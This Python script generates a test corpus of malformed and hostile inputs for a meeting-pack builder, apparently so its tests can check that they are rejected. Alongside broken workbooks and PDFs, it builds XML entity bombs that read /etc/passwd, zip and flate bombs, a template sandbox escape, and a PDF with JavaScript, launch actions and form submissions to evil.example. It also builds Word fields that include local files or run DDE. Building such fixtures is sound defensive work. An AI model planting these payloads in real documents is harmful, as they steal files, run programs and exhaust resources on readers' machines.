"""Regenerate the corpus of bad inputs in this folder: `python tests/bad_inputs/make_corpus.py`.

Every file is small and named by what it exercises. The workbooks replace a good meeting's
``meeting.xlsx`` (they name the paper ``report.pdf``, which the tests' base meeting has); papers are
named in an agenda row of their own; templates go in a meeting's ``templates/`` override.

``wb-password-protected.xlsx`` is a real Excel-encrypted workbook (an OLE compound file holding
EncryptionInfo and EncryptedPackage streams); making it needs ``msoffcrypto-tool``, which is not a
dependency of packbuilder: without it, the committed file is kept.
"""

from __future__ import annotations

import io
import re
import struct
import sys
import zipfile
from pathlib import Path

from docx import Document
from openpyxl import Workbook
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, NameObject, NumberObject, TextStringObject

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent.parent))

from tests.factory import AGENDA_HEADER, MEETING_FIELDS, write_pdf  # noqa: E402

A4 = (595.276, 841.89)
A3 = (841.89, 1190.55)


# --- workbooks -----------------------------------------------------------------------------------


def meeting_workbook(
    fields: dict | None = None,
    rows: list[list] | None = None,
    header: list[str] | None = None,
    agenda_name: str = "Agenda",
) -> Workbook:
    """A good meeting workbook (item 1 Apologies, item 2 a report with report.pdf), then spoilt."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Meeting"
    ws.append(["Field", "Value"])
    for k, v in {**MEETING_FIELDS, **(fields or {})}.items():
        ws.append([k, v])
    ag = wb.create_sheet(agenda_name)
    ag.append(header or AGENDA_HEADER)
    if rows is None:
        rows = [
            [1, "Apologies"],
            [2, "Performance report", "A Officer", "To note", 15, "report.pdf"],
        ]
    for row in rows:
        ag.append(row)
    return wb


def save(wb: Workbook, name: str) -> None:
    wb.save(HERE / name)


def workbooks() -> None:
    save(meeting_workbook(agenda_name="Agneda"), "wb-renamed-agenda-sheet.xlsx")
    header = ["Papers" if h == "Papers" else h for h in AGENDA_HEADER]
    header[header.index("Papers")] = "Attachments"
    save(meeting_workbook(header=header), "wb-renamed-papers-column.xlsx")
    # a heading typed over two lines (Alt+Enter): the error quoting it must still be one line
    header[header.index("Attachments")] = "Papers\n(file names)"
    save(meeting_workbook(header=header), "wb-line-break-in-heading.xlsx")
    wb = meeting_workbook()
    del wb["Meeting"]
    save(wb, "wb-missing-meeting-sheet.xlsx")
    wb = meeting_workbook()
    wb["Meeting"].delete_rows(3)  # the Date row
    save(wb, "wb-missing-date-row.xlsx")
    save(meeting_workbook(rows=[]), "wb-empty-agenda.xlsx")
    save(
        meeting_workbook(
            rows=[
                [1, "Apologies"],
                [2, "Performance report", None, None, None, "report.pdf"],
                [2, "Budget"],
            ]
        ),
        "wb-repeated-item-number.xlsx",
    )
    save(meeting_workbook(fields={"Date": "next Thursday"}), "wb-date-not-a-date.xlsx")
    save(meeting_workbook(fields={"Date": "31/02/2020"}), "wb-date-impossible.xlsx")
    save(meeting_workbook(fields={"Start time": "after lunch"}), "wb-time-not-a-time.xlsx")
    save(meeting_workbook(fields={"Start time": "25:00"}), "wb-time-impossible.xlsx")
    save(
        meeting_workbook(
            rows=[
                [1, "Apologies"],
                [2, "Performance report", "A Officer", None, "a quarter of an hour", "report.pdf"],
            ]
        ),
        "wb-minutes-not-a-number.xlsx",
    )
    wb = meeting_workbook(
        rows=[[1, "Apologies", "Chair"], [2, "Performance report", None, None, None, "report.pdf"]]
    )
    wb["Agenda"].merge_cells("C2:C3")  # one lead typed across two items
    save(wb, "wb-merged-cells.xlsx")
    # openpyxl stores the formula and no result: exactly a workbook written by a program, never
    # opened in Excel
    save(meeting_workbook(fields={"Date": "=DATE(2020,3,5)"}), "wb-formula-without-value.xlsx")
    (HERE / "wb-csv-renamed.xlsx").write_text(
        "Field,Value\nBody,Test Partnership Board\nDate,05/03/2020\nStart time,14:00\n"
    )
    (HERE / "wb-not-a-zip.xlsx").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 2)
    buf = io.BytesIO()
    meeting_workbook().save(buf)
    (HERE / "wb-truncated.xlsx").write_bytes(buf.getvalue()[: len(buf.getvalue()) // 2])
    with zipfile.ZipFile(HERE / "wb-zip-not-a-workbook.xlsx", "w") as zf:
        zf.writestr("notes.txt", "holiday photos")
    _entity_bomb()
    _password_protected()


LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
DOCTYPE = (
    '<!DOCTYPE lolz [<!ENTITY lol0 "lol">' + LAUGHS + '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
)


def _entity_bomb() -> None:
    """'Billion laughs' and an external entity in a workbook's XML: refused, never expanded."""
    buf = io.BytesIO()
    meeting_workbook().save(buf)
    with (
        zipfile.ZipFile(buf) as zin,
        zipfile.ZipFile(HERE / "wb-xml-entity-bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename in ("xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"):
                text = data.decode()
                root = text.index("<", text.index("?>") + 2) if text.startswith("<?xml") else 0
                text = text[:root] + DOCTYPE + text[root:]
                text = text.replace("Test Partnership Board", "&lol9;&xxe;")
                data = text.encode()
            zout.writestr(info, data)


def _password_protected() -> None:
    try:
        import msoffcrypto  # noqa: PLC0415 - only to make this one fixture
        from msoffcrypto.format.ooxml import OOXMLFile  # noqa: PLC0415
    except ImportError:
        print("msoffcrypto-tool not installed: keeping wb-password-protected.xlsx as it is")
        return
    assert msoffcrypto
    plain = io.BytesIO()
    meeting_workbook().save(plain)
    plain.seek(0)
    out = io.BytesIO()
    OOXMLFile(plain).encrypt("committee", out)
    (HERE / "wb-password-protected.xlsx").write_bytes(out.getvalue())


# --- papers --------------------------------------------------------------------------------------


def _pdf_bytes(pages: int, label: str) -> bytes:
    tmp = HERE / ".tmp.pdf"
    write_pdf(tmp, pages, label)
    data = tmp.read_bytes()
    tmp.unlink()
    return data


def papers() -> None:
    good = _pdf_bytes(3, "Truncated")
    (HERE / "pdf-truncated.pdf").write_bytes(good[: len(good) // 2])
    # a PDF header and trailer around bytes that are no PDF objects at all
    (HERE / "pdf-corrupt.pdf").write_bytes(
        b"%PDF-1.7\n" + bytes((i * 97 + 13) % 256 for i in range(1500)) + b"\n%%EOF\n"
    )
    (HERE / "pdf-not-a-pdf.pdf").write_bytes(b"<html><body>Report</body></html>\n")
    for name, user, owner in (
        ("pdf-encrypted-open-password.pdf", "secret", "owner"),
        ("pdf-encrypted-owner-only.pdf", "", "owner"),
    ):
        w = PdfWriter(clone_from=io.BytesIO(_pdf_bytes(2, "Encrypted")))
        w.encrypt(user_password=user, owner_password=owner, algorithm="AES-128")
        with open(HERE / name, "wb") as fh:
            w.write(fh)
    w = PdfWriter()
    with open(HERE / "pdf-zero-pages.pdf", "wb") as fh:
        w.write(fh)
    # page 2 of 3 has a page size that is not numbers: only that page is damaged
    w = PdfWriter(clone_from=io.BytesIO(_pdf_bytes(3, "Damaged")))
    w.pages[1][NameObject("/MediaBox")] = ArrayObject(
        [NumberObject(0), TextStringObject("wide"), NumberObject(5)]
    )
    with open(HERE / "pdf-damaged-page.pdf", "wb") as fh:
        w.write(fh)
    _odd_pages()
    (HERE / "docx-not-a-zip.docx").write_text("This was typed in Notepad and saved as .docx\n")
    (HERE / "doc-not-a-doc.doc").write_text("Not a Word 97 document at all\n")
    (HERE / "docx-encrypted.docx").write_bytes((HERE / "wb-password-protected.xlsx").read_bytes())
    _zip_bomb()
    with zipfile.ZipFile(HERE / "docx-zip-not-word.docx", "w") as zf:
        zf.writestr("readme.txt", "a zip file, but no Word document inside")


def _odd_pages() -> None:
    """One PDF with an A3 page, an A4 landscape page and an A4 page shown rotated by 90 degrees."""
    parts = []
    for label, size, rotate in (
        ("Odd A3", A3, 0),
        ("Odd landscape", (A4[1], A4[0]), 0),
        ("Odd rotated", A4, 90),
    ):
        tmp = HERE / ".tmp.pdf"
        write_pdf(tmp, 1, label, size=size, rotate=rotate)
        parts.append(tmp.read_bytes())
        tmp.unlink()
    w = PdfWriter()
    for data in parts:
        w.append(io.BytesIO(data))
    with open(HERE / "pdf-odd-sizes-and-rotations.pdf", "wb") as fh:
        w.write(fh)


def _zip_bomb() -> None:
    """A small .docx whose central directory declares an entry of 4 GB uncompressed.

    A real bomb of that size would be megabytes even compressed; what a reader trusts before it
    inflates anything is the declared size, so that is what the fixture forges.
    """
    buf = io.BytesIO()
    doc = Document()
    doc.add_paragraph("Looks like a report")
    doc.save(buf)
    data = bytearray(buf.getvalue())
    cd = data.rfind(b"PK\x05\x06")
    (cd_offset,) = struct.unpack_from("<I", data, cd + 16)
    pos = cd_offset
    while data[pos : pos + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        name = bytes(data[pos + 46 : pos + 46 + name_len])
        if name == b"word/document.xml":
            struct.pack_into("<I", data, pos + 24, 0xFFFF_FF00)  # uncompressed size
        pos += 46 + name_len + extra_len + comment_len
    (HERE / "docx-zip-bomb.docx").write_bytes(bytes(data))


# --- templates -----------------------------------------------------------------------------------


def _template(name: str, paragraphs: list[list[tuple[str, bool]]]) -> None:
    """A template whose paragraphs are given as runs of (text, bold)."""
    doc = Document()
    for runs in paragraphs:
        p = doc.add_paragraph()
        for text, bold in runs:
            p.add_run(text).bold = bold
    doc.save(HERE / name)


def templates() -> None:
    _template("tpl-syntax-error.docx", [[("Agenda of {{ body }", False)], [("{{ date }}", False)]])
    _template(
        "tpl-unclosed-block.docx", [[("{% if private %}Private", False)], [("{{ body }}", False)]]
    )
    _template(
        "tpl-undefined-variable.docx",
        [[("{{ body }}", False)], [("Chaired by {{ chairman }}", False)]],
    )
    _template("tpl-unsafe.docx", [[("{{ body.__class__.__mro__ }}", False)]])
    _template("tpl-memory-bomb.docx", [[("{{ body }}", False)], [("{{ 'x' * 10**9 }}", False)]])
    # Word splits a tag into runs when part of it is formatted differently (here "bo" is bold)
    _template(
        "tpl-split-tag.docx",
        [
            [("Agenda of {{ ", False), ("bo", True), ("dy }}", False)],
            [
                ("{% for i in items %}{{ i.number }}. {{ i.", False),
                ("title", True),
                (" }} ", False),
                ("{% endfor %}", False),
            ],
            [("Date: {{ date }}", False)],
        ],
    )


def money_workbooks() -> None:
    """A commissioning plan (a data workbook paper) with words where an amount should be."""
    from openpyxl import load_workbook  # noqa: PLC0415

    example = (
        HERE.parent.parent
        / "inputs"
        / "2020-03-05-safer-plymouth"
        / "commissioning-plan-2020-21.xlsx"
    )
    wb = load_workbook(example)
    projects = wb["Projects"]
    column = [c.value for c in projects[1]].index("Amount allocated") + 1
    projects.cell(row=3, column=column, value="about twenty-five thousand")
    wb.save(HERE / "money-text-in-amount.xlsx")


# --- active content and damaged pages (issue 12) -------------------------------------------------

ATTACHED_TEXT = b"ATTACHED-SECRET-SPREADSHEET"


def active_content() -> None:
    """A 2-page appendix carrying every kind of active content a viewer might run or open.

    Scripts on open, on page view, in links, form fields and chained /Next actions, under keys no
    viewer reads; launch, remote, import and submit actions; media annotations; XFA; an attached
    file (page annotation and document tree). One plain web link stays, to show links survive.
    """
    import pikepdf  # noqa: PLC0415 - only to make these fixtures
    from pikepdf import Array, Dictionary, Name, String  # noqa: PLC0415

    pdf = pikepdf.open(io.BytesIO(_pdf_bytes(2, "Active")))

    def js(code: str) -> pikepdf.Object:
        return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))

    def act(kind: str, **kw: object) -> Dictionary:
        return Dictionary(S=Name(kind), **kw)

    def link(action: Dictionary, y: int) -> Dictionary:
        return Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, y, 300, y + 20]),
            Border=Array([0, 0, 0]),
            A=action,
        )

    attached = pdf.make_stream(ATTACHED_TEXT, Type=Name.EmbeddedFile)
    filespec = Dictionary(
        Type=Name.Filespec,
        F=String("budget.xlsx"),
        UF=String("budget.xlsx"),
        EF=Dictionary(F=attached),
    )
    stream_js = pdf.make_stream(b"app.launchURL('https://evil.example/stream')")
    pdf.Root.OpenAction = act(
        "/GoTo",
        D=Array([pdf.pages[0].obj, Name.Fit]),
        Next=Array([js("app.alert('open chain')"), act("/Launch", F=String("calc.exe"))]),
    )
    pdf.Root.AA = Dictionary(WC=js("app.alert('will close')"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), js("app.alert('names tree')")])),
        EmbeddedFiles=Dictionary(Names=Array([String("budget.xlsx"), filespec])),
    )
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T=String("amount"),
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=Array([72, 600, 200, 620]),
            P=pdf.pages[0].obj,
            AA=Dictionary(K=js("event.value = 1")),
            A=act("/SubmitForm", F=String("https://evil.example/submit")),
        )
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    page1, page2 = pdf.pages[0].obj, pdf.pages[1].obj
    page1.AA = Dictionary(O=js("app.alert('page open')"), C=act("/ImportData", F=String("x.fdf")))
    page1.PieceInfo = Dictionary(Hidden=Dictionary(Private=act("/JavaScript", JS=stream_js)))
    page1.Annots = Array(
        [
            field,
            link(act("/Launch", F=String("cmd.exe"), Next=js("app.alert('next')")), 700),
            link(act("/URI", URI=String("javascript:app.alert('uri')")), 670),
            link(act("/URI", URI=String("file:///etc/passwd")), 640),
            link(act("/URI", URI=String("https://www.plymouth.gov.uk/")), 560),
            link(act("/GoToR", F=String("other.pdf"), D=Array([0, Name.Fit])), 530),
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=Array([400, 700, 420, 720]),
                FS=filespec,
                Contents=String("budget"),
            ),
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Screen,
                Rect=Array([400, 600, 500, 650]),
                A=act("/Rendition", JS=String("app.alert('rendition')")),
            ),
            Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([400, 500, 500, 550])),
            Dictionary(Type=Name("/Annot"), Subtype=Name("/3D"), Rect=Array([400, 400, 500, 450])),
        ]
    )
    page2.Annots = Array(
        [
            link(act("/GoToE", R=Name.C, T=Dictionary(R=Name.C, N=String("budget.xlsx"))), 700),
            link(act("/Named", N=Name.NextPage, Next=act("/SubmitForm", F=String("x"))), 670),
            link(act("/RichMediaExecute", TA=Dictionary()), 640),
        ]
    )
    pdf.save(HERE / "pdf-active-content.pdf")


def damaged_content() -> None:
    """Readable PDFs with one page whose drawing instructions are corrupt (the rest are fine)."""
    import pikepdf  # noqa: PLC0415

    # page 3: its compressed content is garbage, so qpdf cannot inflate it
    pdf = pikepdf.open(io.BytesIO(_pdf_bytes(4, "Inflate")))
    pdf.pages[2].obj.Contents.write(
        b"x\x9c\x00garbage\xff\xfe" * 8, filter=pikepdf.Name.FlateDecode
    )
    pdf.save(HERE / "pdf-page-3-bad-compression.pdf")
    # page 2: content cut off in the middle of an instruction
    pdf = pikepdf.open(io.BytesIO(_pdf_bytes(3, "Cutoff")))
    pdf.pages[1].obj.Contents.write(
        b"BT /F1 14 Tf 72 400 Td (Cutoff page 2) Tj ET q 1 0 0 1 <<<< ]]"
    )
    pdf.save(HERE / "pdf-page-2-truncated-content.pdf")
    # page 2's content is a reference to an object the file does not hold
    pdf = pikepdf.open(io.BytesIO(_pdf_bytes(3, "Missing")))
    buf = io.BytesIO()
    pdf.save(buf, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = buf.getvalue()
    second = list(re.finditer(rb"/Contents \d+ 0 R", data))[1]
    data = data[: second.start()] + b"/Contents 999 0 R" + data[second.end() :]
    (HERE / "pdf-page-2-missing-content.pdf").write_bytes(data)
    # page 2 draws a form (XObject) whose stream is garbage: the page itself parses
    pdf = pikepdf.open(io.BytesIO(_pdf_bytes(2, "Form")))
    form = pdf.make_stream(
        b"",
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Form,
        BBox=pikepdf.Array([0, 0, 100, 100]),
    )
    form.write(b"\x00\x01garbage" * 10, filter=pikepdf.Name.FlateDecode)
    page = pdf.pages[1].obj
    page.Resources.XObject = pikepdf.Dictionary(Fm1=form)
    page.Contents.write(page.Contents.read_bytes() + b" /Fm1 Do")
    pdf.save(HERE / "pdf-page-2-bad-form.pdf")


# --- bounded resources (issue 12) ----------------------------------------------------------------


def _patch_zip(src: bytes, name: str, edit, out: Path, declared: int | None = None) -> None:  # type: ignore[no-untyped-def]
    """Rewrite one member of a zip through `edit` (bytes -> bytes or an iterator of chunks);
    `declared` forges the uncompressed size written in both headers."""
    import zlib  # noqa: PLC0415

    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(buf, "w") as zout:
        for info in zin.infolist():
            if info.filename != name:
                zout.writestr(info, zin.read(info.filename), zipfile.ZIP_DEFLATED)
                continue
            data = edit(zin.read(name))
            chunks = [data] if isinstance(data, bytes) else data
            comp = zlib.compressobj(9, zlib.DEFLATED, -15)
            crc, size, body = 0, 0, bytearray()
            for chunk in chunks:
                crc = zlib.crc32(chunk, crc)
                size += len(chunk)
                body += comp.compress(chunk)
            body += comp.flush()
            zi = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            # write a stored placeholder, then swap in the raw deflate stream and sizes
            zi.CRC, zi.compress_size, zi.file_size = crc, len(body), declared or size
            offset = zout.fp.tell()  # type: ignore[union-attr]
            zi.header_offset = offset
            zout.fp.write(zi.FileHeader(zip64=False))  # type: ignore[union-attr]
            zout.fp.write(bytes(body))  # type: ignore[union-attr]
            zout.filelist.append(zi)
            zout.NameToInfo[zi.filename] = zi
            zout.start_dir = zout.fp.tell()  # type: ignore[union-attr]
    out.write_bytes(buf.getvalue())


def _pdf_flate_bomb() -> None:
    """Page 2's content: 300 KB that unpack to 300 MB of spaces (a "flate bomb")."""
    import zlib  # noqa: PLC0415

    import pikepdf  # noqa: PLC0415

    pdf = pikepdf.open(io.BytesIO(_pdf_bytes(2, "Bomb")))
    comp = zlib.compressobj(9)
    body = b"".join(comp.compress(b" " * (1 << 20)) for _ in range(300)) + comp.flush()
    page = pdf.pages[1].obj
    page.Contents.write(body, filter=pikepdf.Name.FlateDecode)
    pdf.save(HERE / "pdf-page-flate-bomb.pdf")


def bounded_resources() -> None:
    """Inputs that cost minutes and gigabytes if a reader trusts them."""
    good = io.BytesIO()
    meeting_workbook().save(good)
    # one stray cell far down and right, and a dimension claiming the whole sheet: must still build
    wb = meeting_workbook()
    wb["Meeting"]["XFD1048576"] = "stray"
    stray = io.BytesIO()
    wb.save(stray)
    _patch_zip(
        stray.getvalue(),
        "xl/worksheets/sheet1.xml",
        lambda x: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', x),
        HERE / "wb-stray-cell-far-down.xlsx",
    )
    # a merged range over most of a sheet: openpyxl makes an object per merged cell
    _patch_zip(
        good.getvalue(),
        "xl/worksheets/sheet1.xml",
        lambda x: x.replace(
            b"</sheetData>",
            b'</sheetData><mergeCells count="1"><mergeCell ref="C20:XFD1048576"/></mergeCells>',
        ),
        HERE / "wb-merged-whole-sheet.xlsx",
    )

    # sheet XML that inflates to 120 MB (one cell of text), its size declared honestly
    def huge_cell(x: bytes):  # type: ignore[no-untyped-def]
        head, tail = x.split(b"</sheetData>")
        yield head.replace(b"<sheetData/>", b"<sheetData>")
        yield b'<row r="900"><c r="Z900" t="inlineStr"><is><t>'
        for _ in range(120):
            yield b"x" * (1 << 20)
        yield b"</t></is></c></row></sheetData>" + tail

    _patch_zip(
        good.getvalue(), "xl/worksheets/sheet2.xml", huge_cell, HERE / "wb-zip-bomb-sheet-xml.xlsx"
    )

    # 150,000 cells (the same one, again and again): openpyxl would take a minute over them
    def many_cells(x: bytes):  # type: ignore[no-untyped-def]
        head, tail = x.split(b"</sheetData>")
        yield head.replace(b"<sheetData/>", b"<sheetData>")
        yield b'<row r="900">' + b'<c r="Z900"><v>1</v></c>' * 150_000 + b"</row>"
        yield b"</sheetData>" + tail

    _patch_zip(
        good.getvalue(), "xl/worksheets/sheet2.xml", many_cells, HERE / "wb-too-many-cells.xlsx"
    )
    doc = Document()
    doc.add_paragraph("Looks like a report")
    docx = io.BytesIO()
    doc.save(docx)

    def many_paragraphs(x: bytes):  # type: ignore[no-untyped-def]
        head, tail = x.split(b"</w:body>")
        yield head
        para = b"<w:p><w:r><w:t>bomb</w:t></w:r></w:p>" * 10_000
        for _ in range(400):  # 150 MB of paragraphs
            yield para
        yield b"</w:body>" + tail

    _patch_zip(
        docx.getvalue(), "word/document.xml", many_paragraphs, HERE / "docx-zip-bomb-xml.docx"
    )
    _pdf_flate_bomb()
    # the same, its headers declaring 2 KB: a reader trusting the declared size is fooled
    _patch_zip(
        docx.getvalue(),
        "word/document.xml",
        many_paragraphs,
        HERE / "docx-zip-bomb-lying-size.docx",
        declared=2048,
    )


# --- references to files outside the meeting folder (issue 12) ------------------------------------

OUTSIDE = "file:///etc/packbuilder-outside/secret.png"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_IMAGE = f"{R_NS}/image"


def _png() -> bytes:
    buf = io.BytesIO()
    # a 1x1 PNG, written by hand: no imaging library needed
    import zlib  # noqa: PLC0415

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    buf.write(b"\x89PNG\r\n\x1a\n")
    buf.write(chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)))
    buf.write(chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")))
    buf.write(chunk(b"IEND", b""))
    return buf.getvalue()


def linked_image_docx(target: str) -> bytes:
    """A Word report whose picture is "linked to file" (r:link to an external relationship)."""
    doc = Document()
    doc.add_paragraph("Report with a linked picture")
    doc.add_picture(io.BytesIO(_png()))
    buf = io.BytesIO()
    doc.save(buf)

    def relink(xml: bytes) -> bytes:
        return re.sub(rb'r:embed="rId\d+"', b'r:link="rIdOutside"', xml)

    return _docx_edit(
        buf.getvalue(),
        {"word/document.xml": relink},
        rels={"word/_rels/document.xml.rels": (REL_IMAGE, target)},
    )


def _docx_edit(data: bytes, edits: dict, rels: dict | None = None) -> bytes:  # type: ignore[type-arg]
    """Rewrite parts of a .docx; `rels` adds an external relationship rIdOutside to a rels part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
        names = zin.namelist()
        for name in names:
            part = zin.read(name)
            if name in edits:
                part = edits[name](part)
            if rels and name in rels:
                kind, target = rels[name]
                rel = (
                    f'<Relationship Id="rIdOutside" Type="{kind}" Target="{target}" '
                    'TargetMode="External"/>'
                ).encode()
                part = part.replace(b"</Relationships>", rel + b"</Relationships>")
            zout.writestr(name, part, zipfile.ZIP_DEFLATED)
        for name, (kind, target) in (rels or {}).items():
            if name not in names:
                zout.writestr(
                    name,
                    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                    'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdOutside" '
                    f'Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>',
                )
    return out.getvalue()


def _docx_with_body(body_xml: str) -> bytes:
    doc = Document()
    doc.add_paragraph("Report")
    buf = io.BytesIO()
    doc.save(buf)
    return _docx_edit(
        buf.getvalue(),
        {
            "word/document.xml": lambda x: x.replace(
                b"<w:sectPr", body_xml.encode() + b"<w:sectPr", 1
            )
        },
    )


def _run(text: str, instr: bool = False) -> str:
    tag = "w:instrText" if instr else "w:t"
    return f'<w:r><{tag} xml:space="preserve">{text}</{tag}></w:r>'


def _fld(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def external_references() -> None:
    """Word papers referring to files outside the meeting folder, one per mechanism."""
    (HERE / "docx-linked-image.docx").write_bytes(linked_image_docx(OUTSIDE))
    # a complex field whose instruction Word split over three runs, nested in an IF field
    field = (
        "<w:p>"
        + _fld("begin")
        + _run("IF 1 = 1 ", True)
        + _fld("begin")
        + _run(" INCLUDE", True)
        + _run("PICTURE &quot;", True)
        + _run("file:///etc/packbuilder-outside/logo.png&quot; \\d", True)
        + _fld("separate")
        + _run("[picture]")
        + _fld("end")
        + _fld("separate")
        + _run("[picture]")
        + _fld("end")
        + "</w:p>"
    )
    (HERE / "docx-includepicture-field.docx").write_bytes(_docx_with_body(field))
    simple = (
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; ">'
        + _run("[text]")
        + "</w:fldSimple></w:p>"
    )
    (HERE / "docx-includetext-simple-field.docx").write_bytes(_docx_with_body(simple))
    dde = "<w:p>" + _fld("begin") + _run('ddeauto Excel "C:\\budget.xlsx" Sheet1!R1C1', True)
    dde += _fld("separate") + _run("12") + _fld("end") + "</w:p>"
    (HERE / "docx-ddeauto-field.docx").write_bytes(_docx_with_body(dde))
    plain = Document()
    plain.add_paragraph("Report")
    buf = io.BytesIO()
    plain.save(buf)
    for name, part, kind, target in (
        (
            "docx-linked-object.docx",
            "word/_rels/document.xml.rels",
            f"{R_NS}/oleObject",
            "file:///C:/Finance/budget.xlsx",
        ),
        (
            "docx-attached-template.docx",
            "word/_rels/settings.xml.rels",
            f"{R_NS}/attachedTemplate",
            "file:///\\\\fileserver\\templates\\report.dotm",
        ),
        (
            "docx-subdocument.docx",
            "word/_rels/document.xml.rels",
            f"{R_NS}/subDocument",
            "../confidential/part2.docx",
        ),
        (
            "docx-external-font.docx",
            "word/_rels/fontTable.xml.rels",
            f"{R_NS}/font",
            "file:///usr/share/fonts/secret.odttf",
        ),
    ):
        (HERE / name).write_bytes(_docx_edit(buf.getvalue(), {}, rels={part: (kind, target)}))
    _odt_linked_image()
    # a VML picture naming its file in an attribute, with no relationship at all
    vml = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" style="width:50pt;height:50pt">'
        '<v:imagedata src="file:///etc/packbuilder-outside/vml.png" '
        'o:href="file:///etc/packbuilder-outside/vml.png"/></v:shape></w:pict></w:r></w:p>'
    )
    (HERE / "docx-vml-linked-picture.docx").write_bytes(_docx_with_body(vml))
    _odt_linked_image(
        "odt-linked-section.odt",
        '<text:section text:name="S1"><text:section-source xlink:href="other-report.odt" '
        'xlink:type="simple"/></text:section>',
    )
    _doc_from("docx-includetext-simple-field.docx", "doc-includetext-field.doc")
    (HERE / "rtf-includepicture-field.rtf").write_bytes(
        b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Report "
        b'{\\field{\\*\\fldinst {\\b INCLUDE}{PICTURE "file:///etc/packbuilder-outside/x.png"}}'
        b"{\\fldrslt {[picture]}}}\\par}"
    )
    (HERE / "rtf-linked-object.rtf").write_bytes(
        b"{\\rtf1\\ansi Report {\\object\\objlink\\objw100\\objh100"
        b"{\\*\\objclass Excel.Sheet.12}{\\*\\objdata 0105}}\\par}"
    )


def _doc_from(docx: str, doc: str) -> None:
    """A real Word 97 file, saved by LibreOffice from a .docx above (kept if soffice is absent)."""
    import shutil  # noqa: PLC0415
    import subprocess  # noqa: PLC0415
    import tempfile  # noqa: PLC0415

    soffice = shutil.which("soffice")
    if soffice is None:
        print(f"soffice not found: keeping {doc} as it is")
        return
    with tempfile.TemporaryDirectory() as tmp:
        shutil.copyfile(HERE / docx, Path(tmp) / "paper.docx")
        subprocess.run(
            [
                soffice,
                f"-env:UserInstallation=file://{tmp}/profile",
                "--headless",
                "--convert-to",
                "doc",
                "--outdir",
                tmp,
                f"{tmp}/paper.docx",
            ],
            capture_output=True,
            timeout=180,
            check=True,
        )
        shutil.copyfile(Path(tmp) / "paper.doc", HERE / doc)


def _odt_linked_image(name: str = "odt-linked-image.odt", body: str = "") -> None:
    """A minimal .odt: a plain hyperlink (fine) and `body`, by default a picture linked to a file
    outside the package."""
    body = body or (
        '<text:p><draw:frame svg:width="2cm" svg:height="2cm" text:anchor-type="as-char">'
        f'<draw:image xlink:href="{OUTSIDE}" xlink:type="simple" xlink:show="embed" '
        'xlink:actuate="onLoad"/></draw:frame></text:p>'
    )
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:body>'
        "<office:text><text:p>Report with linked content "
        '<text:a xlink:href="https://www.plymouth.gov.uk/">a plain link</text:a></text:p>'
        f"{body}</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:'
        'tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry '
        'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    with zipfile.ZipFile(HERE / name, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        zf.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)


def main() -> None:
    workbooks()
    papers()
    templates()
    money_workbooks()
